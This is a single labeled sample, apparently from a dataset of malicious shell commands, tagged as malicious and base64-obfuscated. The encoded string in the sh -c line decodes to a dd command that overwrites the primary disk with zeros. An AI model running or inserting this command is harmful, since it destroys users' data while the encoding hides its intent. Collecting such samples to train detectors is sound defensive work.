# label: malicious; obfuscated: base64
sh -c "$(echo ZGQgaWY9L2Rldi96ZXJvIG9mPS9kZXYvc2Rh | base64 -d)"
